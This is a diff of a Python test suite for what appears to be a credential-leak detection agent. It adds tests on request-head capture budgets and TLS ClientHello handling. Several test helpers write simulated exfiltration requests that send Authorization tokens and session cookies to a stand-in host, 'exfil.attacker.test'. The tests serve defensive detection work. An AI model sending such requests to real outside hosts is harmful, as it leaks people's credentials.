@@ -3,6 +3,7 @@
 import os
 import shutil
 import socket
+import ssl
 import subprocess
 import sys
 import tempfile
@@ -232,8 +233,8 @@ def test_budget_skips_the_middle_of_a_bulk_transfer_not_the_next_request():
 
 
 def test_budget_catches_a_request_that_shares_a_large_write_with_its_body():
-    """A client that writes a request's headers and body in one large write (Python's
-    http.client does with a bytes body) writes it right after the previous request's large
+    """A client that writes a request's headers and body in one large write (curl does
+    with a --data body under 64 KiB) writes it right after the previous request's large
     writes. It starts with a request line, so it is not taken for the middle of a bulk
     transfer: its head is copied and the credential in it found."""
     def put(s, token):
@@ -253,6 +254,61 @@ def test_budget_copies_a_request_head_longer_than_a_kib():
         s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nCookie: session=%s\r\n"
                    "Authorization: token %s\r\n\r\n" % ("c" * 1500, token)).encode())
     _after_upload(200 << 10, get)
+
+
+def test_budget_does_not_take_words_that_name_a_method_for_a_request():
+    """Past the budget the writes of a text upload that begin with a method's name ("GET THE",
+    "DELETE FROM") do not start requests: a request line has a request target after the
+    method. They are the middle of a bulk transfer and are not copied."""
+    line = b"GET THE ROWS; DELETE FROM T; PUT IT BACK; POST IT; "
+    chunk = (line * (16384 // len(line) + 1))[:16384]
+
+    def more(s, token):
+        for _ in range(20):
+            s.sendall(chunk)
+        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\n"
+                   "Authorization: token %s\r\n\r\n" % token).encode())
+    sent = _after_upload(128 << 10, more)
+    # the budget and the request: an 8 KiB head of each of the 20 text writes would be 160 KiB
+    assert sent < (64 << 10) + 4096, sent
+
+
+def _client_hello():
+    """A real TLS ClientHello, as a client's first write on a connection."""
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = ctx.wrap_bio(incoming, outgoing, server_hostname="uploads.example.test")
+    try:
+        tls.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    hello = outgoing.read()
+    assert hello[:1] == b"\x16", hello[:8]
+    return hello
+
+
+def test_client_hello_after_an_empty_iovec_stops_capture():
+    """A ClientHello sent with sendmsg() whose first iovec is empty is still a TLS
+    connection's start: the kernel looks at the first iovec with bytes in it, copies the
+    ClientHello and nothing of the ciphertext that follows."""
+    require_root()
+    agent = Agent("--include-loopback")
+    sink = Sink()
+    s = socket.create_connection(("127.0.0.1", sink.port))
+    try:
+        s.sendmsg([b"", _client_hello()])
+        for _ in range(16):
+            s.sendmsg([b"", b"\x17\x03\x03" + os.urandom(16381)])
+        me, fd = os.getpid(), s.fileno()
+        entry = [e["value"] for e in kernel_map(agent, "conns")
+                 if (e["key"]["tgid"], e["key"]["fd"]) == (me, fd)]
+    finally:
+        s.close()
+        agent.stop()
+        sink.close()
+    assert len(entry) == 1, entry
+    assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
+    assert entry[0]["conn"]["captured"] < 4096, entry
 
 
 def _h2_frame(ftype, flags, stream, payload):
